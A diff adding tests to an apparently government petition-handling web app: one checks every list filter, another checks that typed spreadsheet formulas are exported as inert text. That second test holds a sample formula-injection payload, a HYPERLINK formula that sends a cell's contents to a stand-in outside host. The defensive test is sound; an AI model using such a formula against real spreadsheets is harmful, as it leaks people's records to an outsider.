@@ -48,6 +48,35 @@ def test_list_flags_and_dates(county, web, several):
     assert c.get("/matters/", {"due_after": today}).status_code == 200
 
 
+def test_every_filter_of_the_issue_selects_its_rows(county, web):
+    # Issue 3 §4: state, unit, channel, category, region, purpose, flags, received and due ranges.
+    now = dt.datetime.now(TZ)
+    old = register(county, title="旧件", received_at=(now - dt.timedelta(days=40)).isoformat(), channel="letter",
+                   purpose="suggestion", headcount=6, major=True, region=county.other_town_region.code).matter
+    new = register(county, title="新件", received_at=(now - dt.timedelta(days=1)).isoformat(), law_related=True).matter
+    act(county, "officer", new, "forward", unit="T01")
+    old.refresh_from_db()
+    new.refresh_from_db()
+    cases = [
+        ({"status": "forwarded"}, new), ({"status": "registered"}, old), ({"unit": "T01"}, new),
+        ({"channel": "letter"}, old), ({"category": "010101"}, None), ({"region": county.other_town_region.code}, old),
+        ({"region": county.town_region.code}, new), ({"purpose": "suggestion"}, old), ({"purpose": "request"}, new),
+        ({"collective": "true"}, old), ({"collective": "false"}, new), ({"major": "true"}, old),
+        ({"law_related": "true"}, new),
+        ({"received_before": (now - dt.timedelta(days=30)).date().isoformat()}, old),
+        ({"received_after": (now - dt.timedelta(days=2)).date().isoformat()}, new),
+        ({"due_before": old.next_due.isoformat()}, old), ({"due_after": new.next_due.isoformat()}, new),
+        ({"overdue": "true"}, old), ({"q": "新件"}, new),
+    ]
+    c = web("officer")
+    for params, expected in cases:
+        r = c.get("/matters/", params)
+        assert r.status_code == 200, params
+        found = {m.number for m in r.context["result"].page.object_list}
+        wanted = {old.number, new.number} if expected is None else {expected.number}
+        assert found == wanted, (params, found)
+
+
 def test_invalid_filter_is_pointed_at(web, several):
     r = web("officer").get("/matters/", {"region": "999999999999"})
     assert r.status_code == 400
@@ -115,6 +144,20 @@ def test_export_from_the_list(county, web, several, settings):
     assert person.id_number not in flat and person.phone not in flat and person.id_number[:4] + "*" in flat
     log = AccessLog.objects.get(kind="export")
     assert log.user == county.users["officer"] and log.detail["rows"] == 2
+
+
+def test_typed_formulas_are_exported_as_text(county, web):
+    # A petitioner's "=HYPERLINK(...)" must not become a live formula in the bureau's Excel ledger.
+    from openpyxl import load_workbook as load
+
+    formula = '=HYPERLINK("http://example.invalid/?"&A2,"点击查看")'
+    m = register(county, title=formula, content="=1+1 正文").matter
+    job = export_run(export_create(actor=county.users["officer"], query="").pk)
+    sheet = load(job.file_path).active
+    row = next(r for r in sheet.iter_rows(min_row=2) if r[0].value == m.number)
+    title, content = row[6], row[7]
+    assert title.value == formula and title.data_type == "s"
+    assert content.value == "=1+1 正文" and content.data_type == "s"
 
 
 def test_export_respects_access(county, web, several):
